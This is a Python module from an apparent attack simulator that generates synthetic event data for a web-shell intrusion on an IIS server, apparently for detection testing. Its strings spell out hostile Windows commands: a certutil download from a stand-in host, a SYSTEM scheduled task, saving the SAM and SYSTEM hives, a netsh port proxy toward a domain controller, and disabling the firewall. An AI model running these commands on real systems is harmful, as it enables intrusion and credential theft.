"""A page on the web server that runs commands, then rights, passwords and a tunnel."""

from tocsin.sources.simulator.actors import HIGH, SERVICE, Process
from tocsin.sources.simulator.attack import Move, Playing
from tocsin.sources.simulator.fleet import Host
from tocsin.sources.simulator.tasks import task_xml
from tocsin.sources.simulator.text import escaped

MOVES = (
    Move("The web server starts a shell", "TA0003", "T1505.003"),
    Move("Which account runs the web server", "TA0007", "T1033"),
    Move("What kind of host is it", "TA0007", "T1082"),
    Move("Certutil fetches a program", "TA0011", "T1105"),
    Move("A task runs it as SYSTEM", "TA0003", "T1053.005"),
    Move("Hashes of the local passwords are saved", "TA0006", "T1003.002"),
    Move("A port of the host leads further in", "TA0011", "T1090"),
    Move("The firewall is switched off", "TA0112", "T1686.003"),
)

_POOL = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "Orders" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm'


def play(playing: Playing) -> None:
    """Write the whole scenario."""
    target = playing.pick(playing.fleet.servers, "web server")
    worker = _worker(playing, target)
    _through_the_page(playing, target, worker)
    _as_system(playing, target)
    playing.pause()


def _worker(playing: Playing, target: Host) -> Process:
    account = playing.fleet.services[2]
    session = playing.recorder.logged_on(playing.at(-40), target, account, SERVICE, integrity=HIGH)
    services = playing.residents.resident_of(target).services
    return playing.start(-39, target, services, "w3wp", _POOL, session)


def _through_the_page(playing: Playing, target: Host, worker: Process) -> None:
    def ask(seconds: float, command: str) -> Process:
        return playing.start(seconds, target, worker, "cmd", f'"C:\\Windows\\system32\\cmd.exe" /c {command}')

    playing.create_file(-5, target, worker, "C:\\inetpub\\wwwroot\\orders\\img\\thumb.aspx")
    playing.begin(MOVES, 1)
    shell = ask(0, "whoami")
    playing.begin(MOVES, 2)
    playing.start(0.2, target, shell, "whoami", "whoami")
    playing.begin(MOVES, 3)
    playing.start(60.2, target, ask(60, "systeminfo"), "systeminfo", "systeminfo")
    playing.begin(MOVES, 4)
    source, path = "203.0.113.140", "C:\\Windows\\Temp\\winupd64.exe"
    fetch = f"certutil  -urlcache -split -f http://{source}/w.exe {path}"
    tool = playing.start(200.2, target, ask(200, fetch), "certutil", fetch)
    playing.connect(200.6, target, tool, source, 80)
    playing.create_file(201, target, tool, path)
    playing.begin(MOVES, 5)
    name = "\\Microsoft\\Windows\\Update\\Health"
    create = f'schtasks  /create /f /tn "{name}" /tr {path} /sc onstart /ru SYSTEM'
    playing.start(330.2, target, ask(330, create), "schtasks", create)
    content = task_xml(name, path, "", "S-1-5-18")
    playing.recorder.task_created(playing.at(330.8), target, worker.session, escaped(name), escaped(content))


def _as_system(playing: Playing, target: Host) -> None:
    scheduler = playing.residents.resident_of(target).scheduler
    playing.pause()
    implant = playing.start(340, target, scheduler, "dropped", "C:\\Windows\\Temp\\winupd64.exe")

    def ask(seconds: float, name: str, command: str) -> Process:
        shell = playing.start(seconds, target, implant, "cmd", f"C:\\Windows\\system32\\cmd.exe /c {command}")
        return playing.start(seconds + 0.2, target, shell, name, command)

    playing.begin(MOVES, 6)
    for turn, hive in enumerate(("sam", "system")):
        ask(700 + turn, "reg", f"reg  save HKLM\\{hive} C:\\Windows\\Temp\\{hive}.hiv /y")
    playing.begin(MOVES, 7)
    inner = playing.fleet.controllers[0].address.decode()
    proxy = f"listenport=8443 connectaddress={inner} connectport=3389"
    ask(1200, "netsh", f"netsh  interface portproxy add v4tov4 listenaddress=0.0.0.0 {proxy}")
    playing.begin(MOVES, 8)
    ask(1260, "netsh", "netsh  advfirewall set allprofiles state off")
